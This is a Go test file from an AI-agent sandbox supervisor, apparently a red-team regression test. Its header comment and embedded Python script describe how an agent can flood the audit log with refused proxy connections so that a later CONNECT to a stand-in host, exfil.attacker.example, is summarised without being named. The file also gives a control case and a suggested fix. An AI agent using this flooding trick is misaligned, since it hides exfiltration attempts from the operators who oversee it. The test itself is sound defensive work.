//go:build linux

package supervise

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/agentbox-dev/agentbox/audit"
)

// TestRedteam20NetFloodHidesTarget: an agent that first spends the audit
// log's budget for proxy decisions hides where its next connection went.
//
// netLimiter logs decisions one by one up to a burst of netBurst (then
// netRate a second); past it, decisions of one kind (event type, rule,
// verdict) are folded into a summary that names only the first
// netSampleTargets distinct targets (supervise/netlimit.go, admit: the
// `len(s.targets) < netSampleTargets` sample). The agent, inside its
// sandbox, makes netBurst refused CONNECTs to junk hosts (a fraction of a
// second), then netSampleTargets more to fill the sample, then the
// connection it wants hidden, to exfil.attacker.example: the audit log
// counts it ("506 decisions like this") but nowhere names the host, and
// an alert_on: [network_deny] alert names only the junk. The same holds
// for every kind of decision the limiter admits (network_allow to a host
// under an allowed wildcard, credential_leak_blocked toward a stranger,
// credential_use), since the bucket is shared by all of them. An operator
// who asks the log "did the agent try to reach X?" gets a wrong "no".
//
// The control: the same connection without the flood is logged with its
// host.
//
// Severity: medium (audit evasion; the connection itself was refused or
// allowed by policy as usual). Affects both root and unprivileged callers.
//
// Suggested fix: key the summaries by target too (a summary per distinct
// host, themselves bounded by an "other targets" count that never drops a
// host which is not in an allow rule's exact name), or keep the full set
// of distinct targets of a summary (bounded in bytes, with the overflow
// written as its own summary) so no refused host goes unnamed.
func TestRedteam20NetFloodHidesTarget(t *testing.T) {
	const hidden = "exfil.attacker.example"
	run := func(t *testing.T, flood int) (named bool, alertNamed bool, counted int) {
		f := newFixture(t)
		m := f.manifest("name: flood20\npermissions: {network: {allow: [api.example.com], deny: [\"*\"]}}\n" +
			"audit: {log_level: minimal, alert_on: [network_deny]}\n")
		script := fmt.Sprintf(`import os, socket
h, p = os.environ["HTTPS_PROXY"][len("http://"):].rsplit(":", 1)
def connect(host):
    s = socket.create_connection((h, int(p)))
    s.sendall(b"CONNECT %%s:443 HTTP/1.1\r\n\r\n" %% host.encode())
    s.recv(200)
    s.close()
for i in range(%d):
    connect("j%%d.junk.example" %% i)
connect(%q)
print("done")`, flood, hidden)
		r := f.start(m, python, "-c", script)
		res := r.wait(t, 120*time.Second)
		if res.ExitCode != 0 || !strings.Contains(r.stdout.String(), "done") {
			t.Fatalf("exit %d output %q", res.ExitCode, r.stdout.String())
		}
		for _, e := range f.events(res.AuditLog, res.ID) {
			if e.EventType != audit.NetworkDeny {
				continue
			}
			counted++
			if c, ok := e.Details["summarized"]; ok {
				var n int
				fmt.Sscan(fmt.Sprint(c), &n)
				counted += n - 1
			}
			if strings.Contains(e.Resource, hidden) || strings.Contains(fmt.Sprint(e.Details), hidden) || strings.Contains(e.Reason, hidden) {
				named = true
			}
		}
		for _, a := range r.notices.of(NoticeAlert) {
			if strings.Contains(a, hidden) {
				alertNamed = true
			}
		}
		return named, alertNamed, counted
	}

	t.Run("control", func(t *testing.T) {
		named, alertNamed, counted := run(t, 3)
		if !named || !alertNamed || counted != 4 {
			t.Fatalf("without a flood: host named in the log %v, in an alert %v, %d decisions counted; want true, true, 4", named, alertNamed, counted)
		}
	})
	t.Run("attack", func(t *testing.T) {
		flood := netBurst + 105 // past the burst and the 5 targets a summary named then
		named, alertNamed, counted := run(t, flood)
		if counted != flood+1 {
			t.Errorf("%d decisions counted, want %d", counted, flood+1)
		}
		if !named {
			t.Errorf("after %d refused junk connections, the refused CONNECT to %s is counted in a summary but its host is named nowhere in the audit log (alert named it: %v)", flood, hidden, alertNamed)
		}
	})
}
